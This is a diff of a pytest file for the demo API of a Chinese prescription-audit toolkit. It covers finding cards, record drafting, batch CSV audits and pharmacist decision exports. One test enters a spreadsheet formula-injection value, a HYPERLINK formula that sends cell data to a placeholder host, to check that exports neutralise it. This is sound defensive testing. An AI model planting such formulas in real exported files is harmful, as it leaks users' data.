@@ -1,9 +1,10 @@
-"""toolkit.demo_api: what the Gradio demo calls, tested without a browser, gradio, spaCy or Whisper."""
+"""toolkit.demo_api: what the Gradio demo calls, tested without a browser, gradio or Whisper (spaCy for the visit)."""
 
 from __future__ import annotations
 
 import importlib.util
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -113,7 +114,8 @@ def _report(*findings: Finding, status: str = "flagged") -> AuditReport:
 
 def _finding(sev: str, message: str = "问题", rule: str = "RX-X-001") -> Finding:
     return Finding.model_validate({"rule_id": rule, "category": "dose", "severity": sev, "message": message,
-                                   "evidence": {"dose_mg": 40, "max": [20]}, "references": ["说明书"]})
+                                   "evidence": {"daily": 40, "limit": [20], "population": "elderly"},
+                                   "references": ["说明书"]})
 
 
 def test_cards_are_coloured_by_severity_and_ordered_block_first():
@@ -121,7 +123,22 @@ def test_cards_are_coloured_by_severity_and_ordered_block_first():
                                      _finding("warn", rule="RX-W")))
     assert html.index('data-rule="RX-B"') < html.index('data-rule="RX-W"') < html.index('data-rule="RX-I"')
     assert "#b91c1c" in html and "#b45309" in html and "#1d4ed8" in html
-    assert "【拦截】" in html and "依据数值：dose_mg=40；max=20" in html and "来源：说明书" in html
+    assert "【拦截】" in html and "依据：日剂量：40；限值：20；人群：老年人" in html and ">说明书<" in html
+    assert "来源：" in html and "审核结果：需干预" in html
+
+
+def test_long_evidence_lists_are_summarised():
+    """Issue 19: a rule printing 50 ICD-10 ranges shows a short summary, not the whole list."""
+    codes = [f"E{n:02d}" for n in range(50)]
+    f = Finding.model_validate({"rule_id": "RX-IND-001", "category": "indication", "severity": "info",
+                                "message": "m", "evidence": {"accepted_icd10": codes}})
+    html = api.findings_html(_report(f))
+    assert "E00、E01、E02、E03、E04、E05 等共 50 项" in html and "E49" not in html
+
+
+def test_no_emoji_status_mark():
+    html = api.findings_html(_report(status="ok"))
+    assert "【通过】" in html and not any(ord(ch) > 0xFFFF or 0x2600 <= ord(ch) <= 0x27BF for ch in html)
 
 
 def test_card_text_is_escaped():
@@ -149,16 +166,15 @@ def _record() -> OutpatientRecord:
 
 
 def _draft() -> api.Draft:
-    from toolkit.care import assess
+    from toolkit.visit import from_record
 
-    record = _record()
-    case = record.to_audit_case("门诊-1")
-    return api.Draft(text="…", record=record, case=case, report=api.audit_case(case), plan=assess(case))
+    text = "诊断原发性高血压，给予苯磺酸氨氯地平片5毫克，每日一次，口服"
+    return from_record(_record(), text, id="门诊-1")
 
 
 def test_editing_the_table_is_what_gets_audited():
     draft = _draft()
-    assert "RX-FMT-003" in {f.rule_id for f in draft.report.findings}  # dose, unit, days not dictated
+    assert "RX-FMT-003" in {f.rule_id for f in draft.report.findings}  # dose, unit, days not in this record
     rows = api.item_rows(draft.case.prescription.items)
     rows[0][2], rows[0][3], rows[0][6] = 5, "mg", 28
     new = api.redraft(draft, api.section_values(draft), rows)
@@ -230,14 +246,17 @@ def test_example_cases_load():
 # --------------------------------------------------------------------------- batch
 
 def test_audit_file_reports_progress_and_writes_both_reports(tmp_path):
-    seen: list[tuple[int, int]] = []
+    seen: list[tuple[float, str]] = []
     result = api.audit_file(ROOT / "toolkit" / "examples" / "cases.jsonl", tmp_path,
-                            on_progress=lambda d, t: seen.append((d, t)), poll_seconds=0.05)
-    assert seen[-1] == (5, 5) and all(d <= t for d, t in seen)
+                            on_progress=lambda f, stage: seen.append((f, stage)), poll_seconds=0.05)
+    # one bar over auditing and writing both reports: never back, 100 % once, at the very end
+    fractions = [f for f, _ in seen]
+    assert fractions == sorted(fractions) and fractions.count(1.0) == 1 and seen[-1] == (1.0, "完成")
+    assert {"写 Excel 报告", "写 HTML 报告"} <= {stage for _, stage in seen}
     assert result.excel.is_file() and result.html.is_file()
     assert result.cases == 5 and result.total.prescriptions == 5 and result.total.irrational == 3
     charts = api.batch_charts_html(result)
-    assert "不合理处方率 60.0%" in charts and "问题类别" in charts
+    assert "不合理处方率 60.0%（3/5 张可审核处方）" in charts and "问题类别" in charts
     assert sum(r[1] for r in api.doctor_rows(result)) == 5
 
 
@@ -273,7 +292,7 @@ def test_decisions_are_checked_then_stored_and_leave_the_queue(store):
         api.decide(store, audit_id, "override", "李药师", reason="病情需要")
     with pytest.raises(InputError, match="审方药师"):
         api.decide(store, audit_id, "pass", " ")
-    with pytest.raises(InputError, match="allowed: pass, return, override"):
+    with pytest.raises(InputError, match="未知的审核结论"):
         api.decide(store, audit_id, "approve", "李药师")
     assert api.queue_rows(store)[0][0] == audit_id
     msg = api.decide(store, audit_id, "override", "李药师", reason="病情需要，已告知患者", prescriber="王医生")
@@ -288,3 +307,202 @@ def test_empty_form_numbers_are_unknown_not_zero():
     assert api.parse_number(" 52 ", "eGFR") == 52.0
     with pytest.raises(InputError, match="「eGFR」应为数字"):
         api.parse_number("五十", "eGFR")
+
+
+# --------------------------------------------------------------------------- one source of truth (issue 13)
+
+DICTATED = ("患者女四十岁，咽痛三天。否认药物过敏史。查体咽部充血。诊断急性扁桃体炎。"
+            "处理：阿莫西林胶囊0.5克一天三次，开五天。")
+
+
+def test_an_allergy_typed_into_the_record_blocks_on_re_audit():
+    pytest.importorskip("spacy")
+    draft = api.draft_record(DICTATED)
+    assert not any(f.category.value == "allergy" for f in draft.report.findings)
+    sections = {**api.section_values(draft), "过敏史": "青霉素过敏"}
+    new = api.redraft(draft, sections, api.item_rows(draft.case.prescription.items))
+    assert new.case.patient.allergies == ("青霉素",)
+    assert any(f.category.value == "allergy" and f.severity.value == "block" for f in new.report.findings)
+    assert "青霉素" in api.facts_markdown(new)
+
+
+def test_age_typed_into_the_header_reaches_the_audit():
+    pytest.importorskip("spacy")
+    draft = api.draft_record(DICTATED.replace("患者女四十岁，", ""))
+    assert draft.case.patient.age is None
+    new = api.redraft(draft, api.section_values(draft), api.item_rows(draft.case.prescription.items),
+                      header=api.header_from_form("王五", "F", "7", "全科", "2026-12-07", "李医生"))
+    assert new.case.patient.age == 7 and new.header.name == "王五"
+
+
+def test_exports_are_the_table_as_edited_one_prescription(tmp_path):
+    pytest.importorskip("spacy")
+    draft = api.draft_record(DICTATED)
+    rows = api.item_rows(draft.case.prescription.items)
+    rows.append(["布洛芬缓释胶囊", "", 0.3, "g", "bid", "口服", 3, ""])
+    rows.append(["对乙酰氨基酚片", "", 0.5, "g", "prn", "口服", 3, ""])
+    new = api.redraft(draft, api.section_values(draft), rows)
+    json_path, fhir_path = api.export_draft(new, tmp_path)
+    doc = json.loads(json_path.read_text(encoding="utf-8"))
+    table = [r[0] for r in rows]
+    assert [i["drug"] for i in doc["prescription"]["items"]] == table
+    assert [i["drug"] for i in doc["items"]] == table
+    assert "case" not in doc and doc["audit"]["id"] == new.report.id
+    if fhir_path is not None:
+        bundle = json.loads(fhir_path.read_text(encoding="utf-8"))
+        meds = [e["resource"]["medicationCodeableConcept"]["text"] for e in bundle["entry"]
+                if e["resource"]["resourceType"] == "MedicationRequest"]
+        assert meds == table
+
+
+def test_toggling_a_correction_keeps_the_doctors_edits():
+    pytest.importorskip("spacy")
+    text = "二型糖尿病复诊。诊断2型糖尿病。处理：二甲双胍0.5克每日三次，加用阿卡波糖50毫克一天三次，开四周。"
+    c1 = _correction("二甲双呱", "二甲双胍", text.index("二甲双胍"))
+    t = Transcript(text=text, segments=(TranscriptSegment(start=0, end=9, text=text),), corrections=(c1,))
+    draft = api.draft_record(text, transcript=t)
+    sections = {**api.section_values(draft), "过敏史": "磺胺过敏"}
+    rows = api.item_rows(draft.case.prescription.items)
+    rows[1][6] = 14  # the doctor shortens acarbose to 14 days
+    new = api.toggle_corrections(draft, t, [], sections, rows)  # untick the correction
+    assert "二甲双呱" in new.text
+    assert new.sections["过敏史"] == "磺胺过敏" and new.case.patient.allergies == ("磺胺",)
+    assert [(i.drug, i.days) for i in new.items][1] == ("阿卡波糖", 14.0)
+    back = api.toggle_corrections(new, t, [0], api.section_values(new), api.item_rows(new.case.prescription.items))
+    assert back.items[0].drug == "二甲双胍" and back.items[1].days == 14.0 and back.sections["过敏史"] == "磺胺过敏"
+
+
+def test_print_view_has_the_header_the_record_and_the_prescription_escaped():
+    pytest.importorskip("spacy")
+    draft = api.draft_record(DICTATED, header={"name": "<b>张三</b>", "department": "全科", "date": "2026-12-07",
+                                               "doctor": "李医生"})
+    page = api.print_html(draft)
+    assert "门诊病历" in page and "处方笺" in page and "Rp" in page
+    assert "&lt;b&gt;张三&lt;/b&gt;" in page and "<b>张三</b>" not in page
+    assert "阿莫西林胶囊" in page and "每次0.5g" in page and "共5天" in page and "急性扁桃体炎" in page
+    assert "http" not in page  # nothing loaded from outside
+
+
+# --------------------------------------------------------------------------- issue 19 / issue 16 (demo)
+
+BATCH_CSV = ("处方号,医生,年龄,过敏史,诊断,药品名称,规格,单次剂量,剂量单位,频次,给药途径,用药天数\n"
+             "B1,王医生,70,青霉素,急性扁桃体炎 J03.9,阿莫西林胶囊,0.25 g,0.5,g,tid,口服,5\n"
+             ",王医生,60,,原发性高血压 I10,苯磺酸氨氯地平片,5 mg,5,mg,qd,口服,7\n"
+             "B3,李医生,50,,原发性高血压 I10,苯磺酸氨氯地平片,5 mg,两片,mg,qd,口服,7\n"
+             "B4,李医生,50,,原发性高血压 I10,苯磺酸氨氯地平片,5 mg,5,mg,qd,口服,7\n")
+
+
+def test_batch_tables_name_flagged_cases_and_error_rows(tmp_path):
+    src = tmp_path / "his.csv"
+    src.write_text(BATCH_CSV, encoding="utf-8")
+    result = api.audit_file(src, tmp_path / "out", poll_seconds=0.05)
+    flagged = api.flagged_rows(result)
+    assert [r[1] for r in flagged] == ["B1", "", "B3"]  # the empty 处方号 row is not "(未填写)"
+    assert flagged[0][4] == "拦截" and flagged[1][3] == "无法审核"
+    errors = api.error_rows(result)
+    assert [(r[1], r[2]) for r in errors] == [(3, ""), (4, "B3")]
+    assert errors[0][4] == "第3行 处方号：处方号为空" and "不是数字" in errors[1][4]
+    assert not [r for r in errors if re.search(r"[A-Za-z]{4,}", r[4])]  # no English, no file path
+    assert [r[1] for r in api.flagged_rows(result, level="无法审核")] == ["", "B3"]
+    assert [r[1] for r in api.flagged_rows(result, text="青霉素")] == ["B1"]
+    opened = api.batch_case_html(result, 1)
+    assert "处方号 B1" in opened and 'data-rule="RX-ALG-001"' in opened
+    assert api.batch_case_html(result, 99) == ""
+    charts = api.batch_charts_html(result)
+    assert "不合理处方率 50.0%（1/2 张可审核处方）" in charts and "无法审核 2 张" in charts
+
+
+def test_error_text_drops_paths_and_english_asides():
+    assert api.error_text("file /tmp/x/his.csv row 4: field 'dose'（单次剂量）: '两片' 不是数字") == \
+        "第4行 单次剂量：'两片' 不是数字"
+    assert api.error_text("file a.csv row 3 field 'rx_id': 处方号为空（prescription id is empty）") == \
+        "第3行 处方号：处方号为空"
+
+
+def test_correction_labels_name_the_kind_and_leave_out_seconds_of_a_one_segment_clip():
+    from toolkit.asr import Transcript
+    from toolkit.asr.records import Correction, TranscriptSegment
+
+    one = Transcript(text="阿莫西林舞毫克", duration=2.0, language="zh",
+                     segments=(TranscriptSegment(start=0.0, end=2.0, text="阿莫西林舞毫克"),),
+                     corrections=(Correction(original="阿莫西林舞", corrected="阿莫西林五", start=0.0, end=2.0,
+                                             offset=0, kind="record", reason="r", score=1.0),
+                                  Correction(original="二甲双呱", corrected="二甲双胍", start=0.0, end=2.0,
+                                             offset=0, kind="drug", reason="r", score=1.0)))
+    labels = [label for label, _ in api.correction_choices(one)]
+    assert labels == ["阿莫西林舞 → 阿莫西林五（数字）", "二甲双呱 → 二甲双胍（药名同音）"]
+    two = one.model_copy(update={"segments": (*one.segments, TranscriptSegment(start=2.0, end=3.5, text="x"))})
+    assert "0.0 秒" in api.correction_choices(two)[0][0]
+
+
+def test_demo_examples_are_named_by_what_they_show_and_fill_the_form():
+    expected = {"ACEI+ARB 联用": "RX-DDI-001", "肾功能不全（eGFR 25 用二甲双胍）": "RX-CI-049",
+                "青霉素过敏（开阿莫西林）": "RX-ALG-001", "华法林 + NSAID（出血风险）": "RX-DDI-020",
+                "老年人多重用药（84 岁，5 种药）": "RX-POP-004", "过敏原写法未识别（PCN）": "RX-ALG-002"}
+    for title, case in api.demo_examples():
+        v = api.form_values(case)
+        form = api.PrescriptionForm(case_id=v["case_id"], age=api.parse_number(v["age"], "年龄"), sex=v["sex"],
+                                    allergies=v["allergies"], diagnoses=v["diagnoses"], items=v["items"],
+                                    labs=dict(zip(api.FORM_LABS, [api.parse_number(x, "x") for x in v["labs"]],
+                                                  strict=True)),
+                                    prescriber=v["prescriber"], extra_json=v["extra"])
+        from_form, direct = api.audit_case(api.case_from_form(form)), api.audit_case(case)
+        assert sorted(f.rule_id for f in from_form.findings) == sorted(f.rule_id for f in direct.findings), title
+        if title in expected:
+            assert expected[title] in {f.rule_id for f in direct.findings}, title
+        else:
+            assert direct.status == "ok", title
+
+
+def test_a_pass_of_a_blocked_prescription_needs_a_reason_and_a_second_decision_conflicts(store):
+    audit_id = api.submit_for_review(store, _report(_finding("block", rule="RX-B")))
+    assert "含拦截问题" in api.decision_target_html(store, audit_id) and "处方号 T" in api.decision_target_html(
+        store, audit_id)
+    with pytest.raises(InputError, match="拦截问题，审核通过需要填写理由"):
+        api.decide(store, audit_id, "pass", "李药师")
+    with pytest.raises(InputError, match="未知的理由代码"):
+        api.decide(store, audit_id, "pass", "李药师", reason_code="because")
+    # a standard reason code alone is a reason
+    msg = api.decide(store, audit_id, "pass", "李药师", reason_code="not-applicable")
+    assert msg.startswith("已记录：审核通过")
+    with pytest.raises(InputError, match="已有审核结论"):
+        api.decide(store, audit_id, "return", "李药师", reason="再退回")
+    decisions, _ = store.decisions(audit_id)
+    assert [(d.decision, d.reason_code, d.reason) for d in decisions] == [("pass", "not-applicable", None)]
+    warn_id = api.submit_for_review(store, _report(_finding("warn", rule="RX-W")))
+    assert api.decide(store, warn_id, "pass", "张药师").startswith("已记录：审核通过")  # no 拦截: no reason needed
+
+
+def test_decisions_view_filters_and_exports_formula_safe(store, tmp_path):
+    a = api.submit_for_review(store, _report(_finding("block", rule="RX-B")))
+    b = api.submit_for_review(store, _report(_finding("warn", rule="RX-W")))
+    api.decide(store, a, "override", "李药师", reason="=HYPERLINK(\"http://x/?\"&A1,\"点\")", prescriber="@王医生",
+               reason_code="benefit-outweighs-risk")
+    api.decide(store, b, "return", "张药师", reason="剂量过大")
+    rows = api.decision_rows(store)
+    assert [r[2] for r in rows] == ["退回医师", "双签放行"]  # newest first
+    assert [r[3] for r in api.decision_rows(store, person="李")] == ["李药师"]
+    assert [r[3] for r in api.decision_rows(store, person="王医生")] == ["李药师"]  # the co-signer counts too
+    assert [r[2] for r in api.decision_rows(store, decision="return")] == ["退回医师"]
+    assert api.decision_rows(store, since="2000-01-01", until="2000-01-02") == []
+    today = api.today()
+    assert len(api.decision_rows(store, since=today, until=today)) == 2
+    with pytest.raises(InputError, match="应为日期"):
+        api.decision_rows(store, since="昨天")
+    assert rows[1][4] == "已评估获益大于风险"
+    csv_path, xlsx_path = api.export_decisions(rows, tmp_path)
+    text = csv_path.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and "'@王医生" in text
+    from openpyxl import load_workbook
+
+    ws = load_workbook(xlsx_path).active
+    values = [c.value for row in ws.iter_rows(min_row=2) for c in row]
+    assert all(not (isinstance(v, str) and v[:1] in "=+-@") for v in values), values
+    assert ws["A1"].value == "时间"
+
+
+def test_override_reasons_are_the_services_codes():
+    from toolkit.service.cds import OVERRIDE_REASONS
+
+    choices = api.override_reason_choices()
+    assert choices[0] == ("（不选）", "") and [c for _, c in choices[1:]] == [r["code"] for r in OVERRIDE_REASONS]
